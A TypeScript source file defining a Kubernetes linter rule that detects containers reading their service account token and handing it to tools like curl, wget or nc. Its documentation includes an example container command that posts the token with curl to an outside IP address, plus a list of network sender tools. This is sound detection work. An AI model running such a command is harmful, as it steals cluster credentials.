import { defineRule } from '../../engine/rule.ts';
import { type Command, partOf, type Word } from '../../k8s/command.ts';

export default defineRule({
  id: 'service-account-token-exfiltration',
  title: 'Service account token read and handed on',
  category: 'service-account',
  severity: 'medium',
  preset: 'strict',
  on: 'container',
  messages: { handed: 'container "{name}" reads its service account token and hands it to {program}' },
  check(container, context) {
    const { commands } = container;
    if (commands.length === 0) return;
    for (const command of commands) {
      const word = command.words.find(holdsToken) ?? command.reads.find(holdsToken);
      if (word === undefined || (!command.shell && command.program !== '' && SHELLS.test(command.program))) continue;
      const receiver = receiverOf(command);
      if (receiver === undefined) continue;
      const part = partOf(word);
      const local = receiver.words?.some(({ text }) => API_SERVER.test(text)) === true;
      context.report(word.node, 'handed', {
        data: { name: container.name, program: receiver.program },
        ...(local ? { severity: 'low' } : {}),
        ...(part === undefined ? {} : { part }),
      });
    }
  },
  docs: {
    why: 'A script that takes the token in its hands leaves it in process lists, logs and on whatever machine it sends it to. It is also how a token is stolen.',
    fix: 'Let a client library use its in-cluster configuration; for services outside project a token with their audience.',
    frameworks: { mitre: ['T1528'] },
    equivalents: { kubescape: ['C-0053'] },
    cks: 'Cluster Hardening',
    references: ['https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/'],
    limits: 'A token that goes through a shell variable is not followed.',
    examples: {
      bad: [
        {
          title: 'sent away',
          in: 'container',
          yaml: 'command: [sh, -c]\nargs:\n  - curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.7/ # finding',
        },
        {
          title: 'used by hand',
          in: 'container',
          yaml: 'command: [sh, -c]\nargs:\n  - \'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default/api\' # finding',
        },
      ],
      good: [
        {
          title: 'the certificate is no secret',
          in: 'container',
          yaml: 'command: [sh, -c, "ls /var/run/secrets/kubernetes.io/serviceaccount/ca.crt"]',
        },
      ],
    },
  },
});

const TOKEN = 'secrets/kubernetes.io/serviceaccount/token';
const SHELLS = /^(?:ba|da|a|z|k)?sh$/;
const SENDERS: ReadonlySet<string> = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'cp', 'tee', 'scp']);
const API_SERVER =
  /^https?:\/\/(?:kubernetes(?:\.default(?:\.svc(?:\.[\w.-]+)?)?)?|\$\{?KUBERNETES_SERVICE_HOST\}?)(?:[:/]|$)/;

function holdsToken({ text }: Word): boolean {
  return text.length >= TOKEN.length && text.includes(TOKEN);
}

/** The program that gets the token: the one that reads it, or the one its output goes to; or else the file. */
function receiverOf(command: Command): (Pick<Command, 'program'> & Partial<Pick<Command, 'words'>>) | undefined {
  if (SENDERS.has(command.program)) return command.feeds === undefined && !readsByCat(command) ? command : undefined;
  if (command.program !== 'cat') return undefined;
  const next = command.feeds?.command ?? command.pipedTo;
  if (next !== undefined) return SENDERS.has(next.program) ? next : undefined;
  const file = command.writes.find(({ text }) => !text.startsWith('/dev/'));
  return file === undefined ? undefined : { program: file.text };
}

/** `curl … $(cat …/token)`: the `cat` is looked at by itself; `$(< …/token)` has none. */
function readsByCat(command: Command): boolean {
  return command.words.some(({ text }) => text.includes(TOKEN) && /\$\((?!\s*<)/.test(text));
}
